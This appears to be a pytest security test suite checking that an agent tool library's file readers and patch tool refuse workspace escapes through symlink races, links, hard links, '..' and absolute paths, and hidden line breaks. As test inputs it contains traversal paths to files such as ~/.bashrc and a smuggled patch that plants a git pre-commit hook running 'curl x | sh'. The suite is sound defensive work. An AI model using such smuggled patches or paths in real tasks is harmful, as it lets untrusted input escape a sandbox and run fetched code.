"""The file tools and apply_patch tried as an attacker would, against real files in tmp_path.

Each test plants a canary outside the workspace and asserts that no outside content ever comes
back and no outside file ever changes: check-then-open swap races, links already in the
workspace (``l -> ../outside`` with ``l/../victim``), hard links to outside files, absolute
paths, ``..`` chains, hidden line breaks and NUL bytes in patches.
"""

from __future__ import annotations

import hashlib
import itertools
import os
import sys
import threading
from collections.abc import Iterator
from pathlib import Path

import pytest

from responses_fast.safety import PathEscapeError, Workspace
from responses_fast.tools.builtin import PatchError, apply_patch
from responses_fast.tools.builtin.files import list_files, read_file, search_files

SECRET = "OUTSIDE-CANARY-7f3a"


def tree_hash(root: Path) -> str:
    h = hashlib.sha256()
    for dirpath, dirnames, filenames in sorted(os.walk(root)):
        dirnames.sort()
        h.update(dirpath.encode())
        for name in sorted(filenames) + [d + "/" for d in dirnames]:
            p = Path(dirpath, name.rstrip("/"))
            h.update(name.encode())
            if p.is_symlink():
                h.update(b"->" + os.readlink(p).encode())
            elif p.is_file():
                h.update(p.read_bytes())
    return h.hexdigest()


@pytest.fixture
def layout(tmp_path: Path) -> tuple[Path, Path]:
    """``tmp/ws`` (the workspace) and ``tmp/outside`` holding canaries; ``tmp/victim`` too."""
    ws = tmp_path / "ws"
    (ws / "d").mkdir(parents=True)
    (ws / "d" / "f.txt").write_text("inside\n")
    (ws / "sub").mkdir()
    (ws / "sub" / "g.txt").write_text("in sub\n")
    (ws / "README.md").write_text("readme\n")
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "f.txt").write_text(f"{SECRET}\n")
    (outside / "dir").mkdir()
    (outside / "dir" / "keep.txt").write_text(f"{SECRET}\n")
    (tmp_path / "victim").write_text(f"{SECRET}\n")
    return ws, outside


def read(ws: Path, path: str) -> str:
    return read_file(Workspace(ws), path, max_output_bytes=100_000)


def patch(*lines: str) -> str:
    return "\n".join(("*** Begin Patch", *lines, "*** End Patch"))


# --------------------------------------------------------------------------- swap races


@pytest.fixture
def swapping(layout: tuple[Path, Path]) -> Iterator[tuple[Path, Path, list[int]]]:
    """A thread swaps ``ws/d`` between the real folder and a symlink to outside, in a loop."""
    ws, outside = layout
    d, real = ws / "d", ws / "d_real"
    stop = threading.Event()
    swaps = [0]

    made = itertools.count()

    def restore() -> None:
        """Put the real folder back (apply_patch may have created a new ``d`` meanwhile)."""
        while real.exists():
            try:
                if d.is_symlink():
                    d.unlink()
                elif d.exists():
                    d.rename(ws / f"d_made_{next(made)}")
                os.rename(real, d)
            except OSError:
                continue

    def swap() -> None:
        while not stop.is_set():
            try:
                os.rename(d, real)
                os.symlink(outside, d)
                os.unlink(d)
                os.rename(real, d)
                swaps[0] += 1
            except OSError:
                restore()

    old = sys.getswitchinterval()
    sys.setswitchinterval(1e-5)  # interleave the two threads finely
    t = threading.Thread(target=swap, daemon=True)
    t.start()
    try:
        yield ws, outside, swaps
    finally:
        stop.set()
        t.join()
        sys.setswitchinterval(old)
        restore()


def test_read_file_never_returns_outside_content_during_a_swap_race(
    swapping: tuple[Path, Path, list[int]],
) -> None:
    ws, _outside, swaps = swapping
    w = Workspace(ws)
    read_ok = refused = 0
    # At least 1500 rounds, then on until both sides of the race were seen (a loaded machine can
    # starve the swapping thread for a while).
    for i in range(20_000):
        if i >= 1500 and read_ok and refused:
            break
        for fn in (
            lambda: read_file(w, "d/f.txt", max_output_bytes=10_000),
            lambda: search_files(w, "CANARY|inside", "d", max_output_bytes=10_000),
            lambda: list_files(w, "d"),
        ):
            try:
                out = fn()
            except (PathEscapeError, OSError):
                refused += 1
                continue
            assert SECRET not in out
            read_ok += 1
    assert swaps[0] > 10, "the swapping thread did not run"
    assert read_ok > 0 and refused > 0, (read_ok, refused, swaps)  # both sides of the race


def test_apply_patch_never_writes_outside_during_a_swap_race(
    swapping: tuple[Path, Path, list[int]],
) -> None:
    ws, outside, swaps = swapping
    before = tree_hash(outside)
    victim = (ws.parent / "victim").read_text()
    applied = refused = 0
    for i in range(8000):
        if i >= 600 and applied and refused:
            break
        p = patch(
            "*** Add File: d/f.txt",
            f"+written {i}",
            f"*** Add File: d/new{i % 3}.txt",
            "+new",
            "*** Add File: d/dir/keep.txt",
            "+clobbered",
        )
        try:
            apply_patch(ws, p)
            applied += 1
        except PatchError:
            refused += 1
        try:
            apply_patch(ws, patch("*** Delete File: d/new0.txt"))
        except PatchError:
            pass
    assert tree_hash(outside) == before, "a file outside the workspace changed"
    assert (ws.parent / "victim").read_text() == victim
    assert swaps[0] > 10
    assert applied > 0 and refused > 0, (applied, refused, swaps)


# --------------------------------------------------------------------------- existing links


@pytest.mark.parametrize(
    "path",
    [
        "l/../victim",
        "l/../outside/f.txt",
        "l/f.txt",
        "l/dir/../f.txt",
        "sub/../l/../victim",
        "ll/f.txt",  # a link to a link that leads out
        "abs/f.txt",  # an absolute link target outside
        "loop/x",
    ],
)
def test_links_leading_out_are_refused_for_reading(layout: tuple[Path, Path], path: str) -> None:
    ws, outside = layout
    (ws / "l").symlink_to("../outside")
    (ws / "ll").symlink_to("l")
    (ws / "abs").symlink_to(outside)
    (ws / "loop").symlink_to("loop")
    with pytest.raises(PathEscapeError):
        read(ws, path)
    with pytest.raises(PathEscapeError):
        search_files(Workspace(ws), ".", path, max_output_bytes=10_000)
    out = list_files(Workspace(ws), ".", 3, 100)
    assert "l/" not in out.splitlines() and "abs/" not in out.splitlines()


@pytest.mark.parametrize(
    "lines",
    [
        ("*** Add File: l/../victim", "+pwned"),
        ("*** Add File: l/new.txt", "+pwned"),
        ("*** Add File: l/dir/../../victim", "+pwned"),
        ("*** Update File: l/f.txt", "@@", f"-{SECRET}", "+pwned"),
        ("*** Delete File: l/../victim",),
        ("*** Delete File: l/dir/keep.txt",),
        ("*** Update File: README.md", "*** Move to: l/../moved.txt", "@@", "-readme", "+x"),
        ("*** Add File: abs/new.txt", "+pwned"),
        ("*** Add File: newdir/../../victim", "+pwned"),
    ],
)
def test_links_leading_out_are_refused_for_writing(
    layout: tuple[Path, Path], lines: tuple[str, ...]
) -> None:
    ws, outside = layout
    (ws / "l").symlink_to("../outside")
    (ws / "abs").symlink_to(outside)
    before_out, before_ws = tree_hash(outside), tree_hash(ws)
    before_root = sorted(os.listdir(ws.parent))
    with pytest.raises(PatchError, match=r"refused|outside"):
        apply_patch(ws, patch(*lines))
    assert tree_hash(outside) == before_out
    assert tree_hash(ws) == before_ws
    assert sorted(os.listdir(ws.parent)) == before_root
    assert (ws.parent / "victim").read_text() == f"{SECRET}\n"


def test_links_that_stay_inside_are_followed(layout: tuple[Path, Path]) -> None:
    ws, _ = layout
    (ws / "s").symlink_to("sub")
    (ws / "sabs").symlink_to(ws / "sub" / "g.txt")
    assert "in sub" in read(ws, "s/g.txt")
    assert "in sub" in read(ws, "sabs")
    # ".." after a link applies to the link's target: s/.. is sub/.., the root.
    assert "readme" in read(ws, "s/../README.md")
    apply_patch(ws, patch("*** Update File: s/g.txt", "@@", "-in sub", "+changed"))
    assert (ws / "sub" / "g.txt").read_text() == "changed\n"
    assert (ws / "s").is_symlink()


# --------------------------------------------------------------------------- hard links


def test_hard_links_to_outside_files_are_refused(layout: tuple[Path, Path]) -> None:
    ws, outside = layout
    os.link(outside / "f.txt", ws / "alias.txt")
    before = tree_hash(outside)
    with pytest.raises(PermissionError, match="hard link"):
        read(ws, "alias.txt")
    found = search_files(Workspace(ws), "CANARY", ".", max_output_bytes=10_000)
    assert SECRET not in found
    for lines in (
        ("*** Update File: alias.txt", "@@", f"-{SECRET}", "+pwned"),
        ("*** Add File: alias.txt", "+pwned"),
        ("*** Delete File: alias.txt",),
    ):
        with pytest.raises(PatchError, match="hard link"):
            apply_patch(ws, patch(*lines))
    assert tree_hash(outside) == before
    assert (ws / "alias.txt").read_text() == f"{SECRET}\n"


# --------------------------------------------------------------------------- plain escapes


@pytest.mark.parametrize(
    "path",
    [
        "../victim",
        "../outside/f.txt",
        "./../victim",
        "d/../../victim",
        "d/../d/../../outside/f.txt",
        "sub/../../ws/../victim",
        "..",
        "/etc/hostname",
        "ABS_OUTSIDE",
        "ABS_WS/../victim",
        "~/.bashrc",
        "a\x00b",
    ],
)
def test_absolute_and_dotdot_paths_are_refused(layout: tuple[Path, Path], path: str) -> None:
    ws, outside = layout
    path = path.replace("ABS_OUTSIDE", str(outside / "f.txt")).replace("ABS_WS", str(ws))
    with pytest.raises(PathEscapeError):
        read(ws, path)
    before = tree_hash(ws.parent)
    with pytest.raises(PatchError):
        apply_patch(ws, patch(f"*** Add File: {path}", "+pwned"))
    assert tree_hash(ws.parent) == before


def test_absolute_paths_inside_work(layout: tuple[Path, Path]) -> None:
    ws, _ = layout
    assert "inside" in read(ws, str(ws / "d" / "f.txt"))
    apply_patch(ws, patch(f"*** Add File: {ws / 'd' / 'abs.txt'}", "+ok"))
    assert (ws / "d" / "abs.txt").read_text() == "ok\n"


def test_special_files_are_not_opened(layout: tuple[Path, Path]) -> None:
    ws, _ = layout
    os.mkfifo(ws / "fifo")  # opening it for reading would block forever
    with pytest.raises(ValueError, match="not a regular file"):
        read(ws, "fifo")
    assert "no matches" in search_files(Workspace(ws), "x", "fifo", max_output_bytes=100)


# --------------------------------------------------------------------------- hidden line breaks


BREAKS = ["\r", "\u2028", "\u2029", "\x85", "\x0b", "\x0c", "\x1c", "\x1d", "\x1e"]


@pytest.mark.parametrize("sep", BREAKS, ids=[repr(b) for b in BREAKS])
def test_hidden_line_breaks_are_refused(layout: tuple[Path, Path], sep: str) -> None:
    ws, _ = layout
    (ws / ".git" / "hooks").mkdir(parents=True)
    before = tree_hash(ws)
    whole = sep.join(
        ["*** Begin Patch", "*** Add File: .git/hooks/pre-commit", "+#!/bin/sh", "+curl x | sh",
         "*** End Patch"]
    )  # fmt: skip
    hidden = patch("*** Add File: ok.txt", f"+fine{sep}*** Add File: .git/hooks/pre-commit",
                   "+curl x | sh")  # fmt: skip
    for text in (whole, hidden):
        with pytest.raises(PatchError, match=r"line break|carriage return|separator|tab|feed"):
            apply_patch(ws, text)
    assert tree_hash(ws) == before
    assert not (ws / ".git" / "hooks" / "pre-commit").exists()


def test_crlf_patches_still_apply(layout: tuple[Path, Path]) -> None:
    ws, _ = layout
    apply_patch(ws, "\r\n".join(["*** Begin Patch", "*** Add File: c.txt", "+x", "*** End Patch"]))
    assert (ws / "c.txt").read_text() == "x\n"


@pytest.mark.parametrize(
    "text",
    [
        patch("*** Add File: a\x00b", "+x"),
        patch("*** Add File: ok.txt", "+x\x00y"),
        patch("*** Add File: tab\there", "+x"),
    ],
)
def test_nul_and_control_characters_are_refused(layout: tuple[Path, Path], text: str) -> None:
    ws, _ = layout
    before = tree_hash(ws)
    with pytest.raises(PatchError, match=r"NUL|control"):
        apply_patch(ws, text)
    assert tree_hash(ws) == before
